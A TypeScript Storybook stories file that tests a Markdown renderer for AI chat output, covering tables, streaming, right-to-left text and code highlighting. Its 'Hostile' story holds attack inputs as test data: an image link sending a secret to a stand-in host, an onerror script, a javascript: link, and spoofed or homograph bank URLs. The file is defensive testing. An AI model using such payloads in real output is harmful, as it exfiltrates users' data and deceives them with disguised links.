import type { Meta, StoryObj } from '@storybook/react-vite';
import { AgentChat } from 'countersign/components';
import { highlightedCode, Markdown, type MarkdownCodeProps, renderMarkdown } from 'countersign/markdown';
import { common, createLowlight } from 'lowlight';
import { expect, within } from 'storybook/test';
import { given, showRun } from '../support/index.js';

/** Text of a model as Markdown, with `countersign/markdown`. */
const meta: Meta<typeof Markdown> = { title: 'Chat/Markdown', component: Markdown };
export default meta;

type Story = StoryObj<typeof Markdown>;

const everything = `# Tidying up

I looked at **all three folders**; most of it can *stay as it is*, and ~~nothing~~ little has to go. The rules are in
[the handbook](https://docs.example.com/handbook/files), see also https://example.org/naming.

## What I would do

1. Move \`notes/old.md\` to the archive
2. Rename what has no date:
   - \`plan.md\`
   - \`todo.md\`, which **nobody** opened since March
3. Ask you about the rest

- [x] Looked at everything
- [ ] Wrote it down

| File | Changed | Size |
|:-----|:-------:|-----:|
| \`plan.md\` | yesterday | 1.2 kB |
| \`todo.md\` | in March | 310 B |

> Keep what you would miss.
> Everything else is in the way.

\`\`\`ts
const keep = files.filter(({ changed }) => changed > lastMonth);
await archive(files.filter((file) => !keep.includes(file)), { to: 'archive/2026', dryRun: true });
\`\`\`

---

That is all.
`;

/** All that a text may hold: a link says which host it leads to, and code can be copied. */
export const Everything: Story = {
  args: { text: everything },
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('heading', { name: 'Tidying up', level: 3 })).toBeVisible();
    await expect(canvas.getByRole('table')).toBeVisible();
    await expect(canvas.getByRole('checkbox', { name: 'Done' })).toBeChecked();
    await expect(canvas.getByRole('link', { name: 'the handbook' })).toHaveAttribute('target', '_blank');
    await expect(canvas.getByText('docs.example.com')).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Copy code' })).toBeVisible();
  },
};

const lowlight = createLowlight(common);
const Highlighted = highlightedCode((code, language) => lowlight.highlight(language, code));

/** `highlightedCode` colours code blocks with lowlight, refractor or Shiki. */
export const Lowlight: Story = {
  args: { text: everything, code: Highlighted },
  play: async ({ canvas }) => {
    await expect(canvas.getByText('const')).toHaveClass('hljs-keyword');
    await expect(canvas.getByRole('button', { name: 'Copy code' })).toBeVisible();
  },
};

/** On a phone, tables and code scroll within themselves. */
export const Narrow: Story = {
  args: { text: everything },
  globals: { viewport: { value: 'narrow' } },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByRole('table')).toBeVisible();
    await expect(canvasElement.scrollWidth).toBeLessThanOrEqual(canvasElement.clientWidth);
  },
};

/** From right to left; code stays from left to right. */
export const RightToLeft: Story = {
  args: {
    text: 'نظرت في **كل المجلدات**، والقواعد في [الدليل](https://docs.example.com/handbook).\n\n1. نقل `old.md`\n2. السؤال عن الباقي\n\n- [x] انتهى\n\n```ts\nconst a = 1;\n```',
  },
  globals: { direction: 'rtl' },
  play: async ({ canvas }) => {
    await expect(canvas.getAllByRole('list')[0]).toBeVisible();
  },
};

/** While it is written, what is begun is shown as if it were ended: no mark is seen before what it means is clear. */
export const Streaming: Story = {
  args: { state: 'streaming', text: 'The **plan** has three parts:\n\n- the **first and most impor' },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByText('first and most impor').localName).toBe('strong');
    await expect(canvasElement).not.toHaveTextContent('*');
  },
};

/** A table is one from its first row on. */
export const StreamingTable: Story = {
  args: { state: 'streaming', text: 'All files:\n\n| File | Changed' },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByRole('columnheader', { name: 'Changed' })).toBeVisible();
    await expect(canvasElement).not.toHaveTextContent('|');
  },
};

/** Raw HTML is text, pictures are names, no script is a link, and a host that is dressed up as another is marked. */
export const Hostile: Story = {
  args: {
    text: [
      '<img src="https://collect.example/?d=secret" onerror="alert(1)"> and <b>not bold</b>',
      '![your chart](https://collect.example/?d=secret)',
      '[Press me](javascript:alert(1))',
      '[https://bank.example](https://bank.example.evil.example/login)',
      '[Log in](https://bank.example@evil.example)',
      '[The fruit](https://xn--pple-43d.com)',
    ].join('\n\n'),
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvasElement.querySelector('img, b')).toBeNull();
    await expect(canvas.queryByRole('link', { name: 'Press me' })).toBeNull();
    await expect(canvas.getByText('bank.example.evil.example')).toBeVisible();
    await expect(canvas.getByRole('link', { name: 'Picture: your chart' })).toBeVisible();
  },
};

const keywords = /\b(const|await|return|function)\b/;

/** A stand-in for a highlighter. */
function Keywords({ code }: MarkdownCodeProps) {
  return code.split(keywords).map((part, at) => {
    const key = `${at}-${part}`;
    return at % 2 === 1 ? <strong key={key}>{part}</strong> : <span key={key}>{part}</span>;
  });
}

/** A component of the app shows the inside of code blocks, such as a highlighter. */
export const HighlightedCode: Story = {
  args: { code: Keywords, text: '```ts\nconst answer = await ask();\n```' },
  play: async ({ canvas }) => {
    await expect(canvas.getByText('const').localName).toBe('strong');
    await expect(canvas.getByText('ts')).toBeVisible();
  },
};

const pixels =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAFUlEQVR4nGNkYPjPgBsw4ZEbwdIAQM8BD5V9iQcAAAAASUVORK5CYII=';

/** Pictures that the app allows; the others are named. */
export const AllowedPictures: Story = {
  args: {
    allowImage: (url) => url.startsWith('data:'),
    text: `![one of ours](${pixels})\n\n![one of theirs](https://collect.example/a.png)`,
  },
  play: async ({ canvas }) => {
    await expect(canvas.getByRole('img', { name: 'one of ours' })).toBeVisible();
    await expect(canvas.queryByRole('img', { name: 'one of theirs' })).toBeNull();
  },
};

/** In a chat, as `renderText`. */
export const InAChat: StoryObj<typeof AgentChat> = {
  parameters: { fills: true },
  render: showRun((run) => <AgentChat run={run} title="Workspace" renderText={renderMarkdown} />),
  beforeEach: given({ turns: [everything], until: 'idle' }),
  play: async ({ canvas }) => {
    const log = within(canvas.getByRole('log'));
    await expect(log.getByRole('heading', { name: 'What I would do' })).toBeVisible();
    await expect(log.getAllByRole('button', { name: 'Copy message' })).toHaveLength(2);
  },
};
